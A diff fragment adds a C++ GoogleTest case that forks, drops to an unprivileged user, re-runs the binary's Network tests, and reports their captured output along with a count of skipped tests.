+  const gid_t gid = pw->pw_gid;
+  const std::string home = pw->pw_dir;
+  int out[2];
+  ASSERT_EQ(::pipe(out), 0);
+  const pid_t child = ::fork();
+  if (child == 0) {
+    ::dup2(out[1], STDOUT_FILENO);
+    ::dup2(out[1], STDERR_FILENO);
+    if (::setgroups(0, nullptr) != 0 || ::setgid(gid) != 0 || ::setuid(uid) != 0) ::_exit(90);
+    ::setenv("PX_NETWORK_CHILD", "1", 1);
+    ::setenv("HOME", home.c_str(), 1);
+    ::setenv("TMPDIR", "/tmp", 1);
+    ::setenv("USER", pw->pw_name, 1);
+    const std::string self = fs::canonical("/proc/self/exe").string();
+    ::execl(self.c_str(), self.c_str(), "--gtest_filter=Network.*", nullptr);
+    ::_exit(91);
+  }
+  ::close(out[1]);
+  std::string text;
+  char buf[4096];
+  ssize_t n;
+  while ((n = ::read(out[0], buf, sizeof buf)) > 0) text.append(buf, static_cast<std::size_t>(n));
+  ::close(out[0]);
+  int status = 0;
+  ::waitpid(child, &status, 0);
+  int inner_skips = 0;
+  for (std::size_t at = text.find("[  SKIPPED ]"); at != std::string::npos;
+       at = text.find("[  SKIPPED ]", at)) {
+    text.replace(at, 12, "[ skipped  ]");
+    ++inner_skips;
+  }
+  std::printf("---- the suite as %s (uid %u), %d skip lines ----\n%s---- end ----\n", user, uid, inner_skips,
+              text.c_str());
+  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0)
+      << "the unprivileged pass failed (status " << status << ")";
+}
+
+}  // namespace
